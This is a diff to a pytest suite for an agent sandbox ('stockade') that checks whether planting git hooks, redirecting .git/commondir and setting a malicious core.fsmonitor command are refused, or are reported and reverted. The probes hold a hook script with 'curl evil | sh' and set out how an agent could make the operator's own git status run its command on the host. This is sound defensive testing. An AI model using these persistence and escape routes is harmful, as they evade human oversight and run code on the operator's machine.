@@ -612,12 +612,11 @@ def _protected_workspace(host_dir: Path, present: bool) -> tuple[Path, Policy]:
     return ws, policy
 
 
-@pytest.mark.parametrize("present", [False, True], ids=["absent", "present"])
 @pytest.mark.parametrize("rel", PROTECTED)
-def test_protected_file_in_the_workspace(host_dir: Path, rel: str, present: bool) -> None:
+def test_protected_file_in_the_workspace(host_dir: Path, rel: str) -> None:
     """Protected paths (default ``filesystem.protect`` and the policy file
-    itself) are read-only mounts inside the writable workspace, placed even
-    when the file does not exist yet. Writing, deleting or renaming over one
+    itself) that exist are read-only mounts inside the writable workspace
+    (one that does not exist yet: the next test). Writing, deleting or renaming over one
     fails: EROFS for a write (the read-only mount refuses in mnt_want_write,
     before any security hook, so Landlock records nothing), EBUSY for
     unlink/rename (it is a mount point) or EXDEV for a rename into a pinned
@@ -626,9 +625,10 @@ def test_protected_file_in_the_workspace(host_dir: Path, rel: str, present: bool
     protected or pinned directory). Evidence: the host
     file is unchanged (or still absent) after the run. The file next to it
     stays writable (the control)."""
+    present = True
     ws, policy = _protected_workspace(host_dir, present)
     target = ws / rel
-    before = snapshot(target) if present else None
+    before = snapshot(target)
     with Cell(policy, workspace=ws, environ={}) as cell:
         probe = run_probe(
             cell,
@@ -648,10 +648,7 @@ def test_protected_file_in_the_workspace(host_dir: Path, rel: str, present: bool
     assert_refused(probe["delete"], EBUSY, EROFS)
     assert_refused(probe["replace"], EBUSY, EROFS, EXDEV)
     assert assert_works(probe["control"]) is True
-    if present:
-        assert snapshot(target) == before
-    else:
-        assert not os.path.lexists(target), f"{rel} was left behind on the host"
+    assert snapshot(target) == before
     assert (ws / ".git" / "HEAD").read_text().endswith("#")
     # Each attempt is on record (the kernel audit rules of record/_audit_mount).
     assert_mount_refusal(probe, probe["write"], target, target.parent)
@@ -664,17 +661,64 @@ def test_protected_file_in_the_workspace(host_dir: Path, rel: str, present: bool
     assert_mount_refusal(probe, probe["replace"], target, target.parent)
 
 
-@pytest.mark.parametrize("present", [False, True], ids=["absent", "present"])
-@pytest.mark.parametrize("parent", [".git", ".git/hooks"])
+@pytest.mark.parametrize("rel", PROTECTED)
+def test_protected_file_that_does_not_exist_yet_is_reported_and_reverted(host_dir: Path, rel: str) -> None:
+    """A protected path that does not exist when the cell starts cannot be
+    covered without making it (a placeholder git and the operator would see,
+    and anyone could unlink to detach the mount), so its creation is not
+    refused: it is the persistence report's. The attempt: create it, through
+    a fresh parent where there is none. Evidence: the ``cell.persistence``
+    event names it as created, ``stockade revert`` (``_revert.revert``) moves
+    it out of the workspace into quarantine, and the ordinary file written
+    beside it (the control) is neither reported nor touched."""
+    from stockade.cell._revert import revert
+
+    ws, policy = _protected_workspace(host_dir, present=False)
+    records = host_dir / "records"
+    target = ws / rel
+    with Cell(policy, workspace=ws, environ={}, records=str(records)) as cell:
+        probe = run_probe(
+            cell,
+            [
+                Attempt(
+                    "create",
+                    f"os.makedirs(os.path.dirname({rel!r}) or '.', exist_ok=True); "
+                    f"open({rel!r}, 'w').write('#!/bin/sh\\ncurl evil | sh\\n'); os.chmod({rel!r}, 0o755)",
+                ),
+                Attempt("control", "open('notes.txt', 'w').write('ok'); return True"),
+            ],
+        )
+    assert assert_works(probe["control"]) is True
+    assert target.exists(), f"the attempt did not run: {probe['create']}"
+    (report,) = [e for e in probe.events if e.kind == "cell.persistence"]
+    listed = {c["path"]: c for c in report.detail["changes"]}
+    assert listed[str(target)]["change"] == "created", report.detail
+    assert str(ws / "notes.txt") not in listed
+    assert report.detail["revert"] == f"stockade revert {probe.result.cell_id}"
+    steps = revert(str(records), probe.result.cell_id)
+    assert not os.path.lexists(target), steps
+    assert (ws / "notes.txt").read_text() == "ok"
+    assert (ws / ".git" / "HEAD").exists()
+
+
+@pytest.mark.parametrize(
+    ("parent", "present"),
+    [(".git", False), (".git", True), (".git/hooks", True)],
+    ids=[".git-absent", ".git-present", ".git/hooks-present"],
+)
 def test_rename_of_a_protected_parent(host_dir: Path, parent: str, present: bool) -> None:
     """Renaming the directory that holds a protected path (to put a fresh,
     writable one in its place) fails with EBUSY: every directory between the
-    workspace and a protected path is a mount point. The VFS refuses before
+    workspace and a protected path is a mount point, and so is every git
+    directory, even one holding no hooks yet ("absent"). The VFS refuses before
     Landlock; the audit rules of ``record/_audit_mount`` record the EBUSY and
     the EROFS. Evidence: no hook was planted on the host, and both refusals
-    are on record. An ordinary directory renames fine (the control)."""
+    are on record. An ordinary directory renames fine (the control). Where
+    ``.git/hooks`` does not exist, making it and a hook in it is not refused
+    (nothing covers a path that does not exist): the persistence report
+    names the hook as created."""
     ws, policy = _protected_workspace(host_dir, present)
-    with Cell(policy, workspace=ws, environ={}) as cell:
+    with Cell(policy, workspace=ws, environ={}, records=str(host_dir / "records")) as cell:
         probe = run_probe(
             cell,
             [
@@ -688,13 +732,18 @@ def test_rename_of_a_protected_parent(host_dir: Path, parent: str, present: bool
             ],
         )
     assert_refused(probe["rename"], EBUSY)
-    assert_refused(probe["plant"], EROFS)
     assert assert_works(probe["control"]) is True
     assert_mount_refusal(probe, probe["rename"], ws / parent)
-    assert_mount_refusal(probe, probe["plant"], ws / ".git" / "hooks" / "pre-commit", ws / ".git" / "hooks")
-    hook = ws / ".git" / "hooks" / "pre-commit"
-    assert (hook.read_text() == "original .git/hooks/pre-commit\n") if present else not hook.exists()
     assert not (ws / f"{parent}-moved").exists()
+    hook = ws / ".git" / "hooks" / "pre-commit"
+    if present:
+        assert_refused(probe["plant"], EROFS)
+        assert_mount_refusal(probe, probe["plant"], hook, ws / ".git" / "hooks")
+        assert hook.read_text() == "original .git/hooks/pre-commit\n"
+    else:
+        assert_works(probe["plant"])
+        (report,) = [e for e in probe.events if e.kind == "cell.persistence"]
+        assert {c["path"]: c["change"] for c in report.detail["changes"]}[str(hook)] == "created"
 
 
 def test_a_move_between_two_writable_places_is_no_refusal_on_record(host_dir: Path) -> None:
@@ -703,7 +752,7 @@ def test_a_move_between_two_writable_places_is_no_refusal_on_record(host_dir: Pa
     then copies). The kernel logs it like a rename into a protected directory,
     but both places are the cell's to write, so it is not kept; the same
     rename into ``.git/hooks`` (protected) is."""
-    ws, policy = _protected_workspace(host_dir, present=False)
+    ws, policy = _protected_workspace(host_dir, present=True)
     with Cell(policy, workspace=ws, environ={}) as cell:
         probe = run_probe(
             cell,
@@ -793,29 +842,48 @@ def test_git_config_and_hooks_cannot_be_redirected(host_dir: Path, how: str) -> 
     hooks and config are read-only), so the agent writes ``.git/commondir`` =
     ``../evilgit`` and ``evilgit/config`` with ``core.fsmonitor = <command>``;
     the operator's next ``git status`` in the workspace runs the command on the
-    host (seen with git 2.39)."""
+    host (seen with git 2.39). A commondir that does not exist cannot be
+    covered without making one (which git would then read), so its creation
+    is the persistence report's: it names ``.git/commondir`` as created, and
+    after ``revert`` the operator's real ``git status`` runs nothing of the
+    agent's (the control: the repository's own HEAD stays writable)."""
+    import subprocess
+
+    from stockade.cell._revert import revert
+
     ws = _ws_root_owned(host_dir)
     (ws / ".git" / "hooks").mkdir(parents=True)
+    (ws / ".git" / "objects").mkdir()
+    (ws / ".git" / "refs").mkdir()
     (ws / ".git" / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
     (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
+    pwned = host_dir / "pwned"
     rel, content = GIT_REDIRECTS[how]
     body = (
         "for d in ('evilgit/hooks', 'evilgit/objects', 'evilgit/refs'):\n"
         "    os.makedirs(d, exist_ok=True)\n"
-        "open('evilgit/config', 'w').write('[core]\\n\\tfsmonitor = \"touch /tmp/pwned; false\"\\n')\n"
+        f"open('evilgit/config', 'w').write('[core]\\n\\tfsmonitor = \"touch {pwned}; false\"\\n')\n"
         f"os.makedirs(os.path.dirname({rel!r}), exist_ok=True)\n"
         f"open({rel!r}, 'w').write({content!r})"
     )
-    with Cell(default_policy("escapes"), workspace=ws, environ={}) as cell:
+    records = host_dir / "records"
+    with Cell(default_policy("escapes"), workspace=ws, environ={}, records=str(records)) as cell:
         probe = run_probe(
             cell,
             [
                 Attempt("attempt", body),
-                Attempt("control", "open('.git/HEAD', 'a').write('#'); return True"),
+                Attempt("control", "open('.git/HEAD', 'a').write('\\n'); return True"),
             ],
         )
     assert assert_works(probe["control"]) is True
-    assert not (ws / rel).exists(), f"ESCAPE: {probe['attempt']}; the host's workspace now holds {rel}"
+    (report,) = [e for e in probe.events if e.kind == "cell.persistence"]
+    assert {c["path"]: c["change"] for c in report.detail["changes"]}.get(str(ws / rel)) == "created", (
+        f"ESCAPE unreported: {report.detail}"
+    )
+    revert(str(records), probe.result.cell_id)
+    assert not (ws / rel).exists()
+    subprocess.run(["git", "status"], cwd=ws, capture_output=True, check=False, timeout=30)
+    assert not pwned.exists(), "ESCAPE: the operator's git status ran the agent's fsmonitor after revert"
 
 
 def test_protection_placeholders_stay_inside_the_workspace(host_dir: Path) -> None:
